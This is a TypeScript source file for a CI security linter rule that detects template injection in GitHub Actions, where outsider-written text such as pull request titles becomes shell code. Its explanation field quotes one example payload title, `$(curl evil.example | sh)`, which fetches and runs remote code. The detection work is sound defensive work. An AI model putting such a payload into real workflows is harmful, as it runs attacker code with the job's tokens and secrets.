import type { Confidence, Persona, Severity } from '#findings/severity.ts';
import { type CodeText, codeTextsOf } from '#pipeline/github/code-inputs.ts';
import { evaluateGuard, evaluateJob } from '#pipeline/guard.ts';
import type { Step } from '#pipeline/model.ts';
import type { Taint } from '#pipeline/taint.ts';
import { type Expression, expressionText, locateExpression } from '#pipeline/text.ts';
import { isOutsider } from '#pipeline/trigger.ts';
import type { Rule, RuleContext } from '../../rule.ts';
import { isOpenValue } from '../../shared/open-value.ts';
import { environmentFix } from './environment-fix.ts';

/** Characters of an expression that a message repeats. */
const NAMED_MAX = 200;

interface Verdict {
  readonly severity: Severity;
  readonly confidence: Confidence;
  readonly persona: Persona;
}

const CERTAINTY: Readonly<Record<Taint['certainty'], Confidence>> = {
  certain: 'high',
  likely: 'medium',
  possible: 'low',
};

/** Who writes it decides how bad it is; how it got here decides how sure we are. */
function judge(taint: Taint): Verdict {
  const confidence = CERTAINTY[taint.certainty];
  if (isOutsider(taint.writtenBy)) {
    return { severity: taint.authority === 'full' ? 'high' : 'medium', confidence, persona: 'regular' };
  }
  if (taint.writtenBy === 'caller') return { severity: 'medium', confidence: 'low', persona: 'regular' };
  return { severity: 'low', confidence, persona: 'pedantic' };
}

function writerOf(taint: Taint): string {
  if (isOutsider(taint.writtenBy)) return 'an outsider';
  return taint.writtenBy === 'caller' ? 'a caller' : 'a member';
}

const RANK: readonly Severity[] = ['critical', 'high', 'medium', 'low', 'info'];

function worst(taints: readonly Taint[]): Taint | undefined {
  return taints.toSorted((a, b) => RANK.indexOf(judge(a).severity) - RANK.indexOf(judge(b).severity))[0];
}

/** A condition that stops outsiders at every event that brings the value leaves members only. */
function isStopped(taint: Taint, step: Step, context: RuleContext): boolean {
  if (!isOutsider(taint.writtenBy) || taint.events.length === 0) return false;
  return taint.events.every((event) => {
    const assume = context.outsider(event);
    return evaluateJob(step.job, assume) === 'false' || evaluateGuard(step.guard, assume) === 'false';
  });
}

function reportTaint(
  expression: Expression,
  code: CodeText,
  step: Step,
  taint: Taint,
  context: RuleContext,
): void {
  const named = expressionText(expression);
  const origin = taint.hops.length === 0 || taint.origin === named ? '' : ` (it comes from ${taint.origin})`;
  const end = {
    label: `put into ${code.what}`,
    source: code.text.source,
    span: locateExpression(expression),
  };
  context.report({
    at: locateExpression(expression),
    message: `${writerOf(taint)} writes \`${named}\`${origin}, and it becomes code in ${code.what}`,
    ...judge(taint),
    path: taint.hops.length === 0 ? [] : [...taint.hops, end],
    fixes: [environmentFix(expression, code, step)],
  });
}

const INPUT = /\b(?:github\.event\.)?inputs\b/i;

/**
 * Nobody outside is known to write it, so it is no flaw yet; but nothing says what the text may be. An input is the
 * pipeline's door: the next caller need not be as harmless as those of today.
 */
function reportOpenValue(expression: Expression, code: CodeText, context: RuleContext): void {
  const named = expressionText(expression);
  const isInput = INPUT.test(named);
  context.report({
    at: locateExpression(expression),
    message: `\`${named.slice(0, NAMED_MAX)}\` is put into ${code.what} as it is, whatever characters it holds`,
    explanation: isInput
      ? 'No caller in this repository hands over what an outsider writes. One that does makes it a command.'
      : 'The platform puts the value into the code before anything reads it: a quotation mark or a space in it changes what runs. That no outsider writes it today is nowhere written down.',
    severity: isInput ? 'low' : 'info',
    confidence: 'low',
    persona: isInput ? 'pedantic' : 'auditor',
  });
}

function checkExpression(expression: Expression, code: CodeText, step: Step, context: RuleContext): void {
  const taints = context.taintsOf(expression, { step });
  const taint = worst(taints.filter((each) => !isStopped(each, step, context)));
  if (taint !== undefined) reportTaint(expression, code, step, taint, context);
  else if (expression.parsed.ok && isOpenValue(expression.parsed.root, step)) {
    reportOpenValue(expression, code, context);
  }
}

export const rule: Rule = {
  id: 'template-injection',
  title: 'Text that others write becomes code',
  severity: 'high',
  confidence: 'high',
  persona: 'regular',
  platforms: ['github'],
  standards: { cicdSec: ['CICD-SEC-4'], cwe: ['CWE-94', 'CWE-95', 'CWE-116'], cis: ['2.3.1'] },
  description:
    'Looks for `${{ }}` in scripts, and in inputs that actions run as code, whose value somebody else writes: directly, or through variables, outputs, inputs and matrices.',
  why: 'The platform puts the value into the script before the shell reads it. A title such as `$(curl evil.example | sh)` is then a command, and runs with the job’s token and secrets.',
  remedy:
    'Hand the value over in `env:` and read it as a quoted shell variable: `"$TITLE"`. In github-script read it from `context` or `process.env`.',
  references: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
  ],
  incident: {
    name: 'Nx (s1ngularity)',
    date: '2025-08',
    what: 'The title of a pull request ran in a workflow that could publish: stolen tokens released packages that searched machines for secrets.',
  },
  aliases: [
    'zizmor/template-injection',
    'poutine/injection',
    'codeql/actions/code-injection/critical',
    'checkov/CKV_GHA_2',
    'kics/run_block_injection',
  ],

  step(step, context) {
    for (const code of codeTextsOf(step)) {
      for (const expression of code.text.expressions) checkExpression(expression, code, step, context);
    }
  },
};
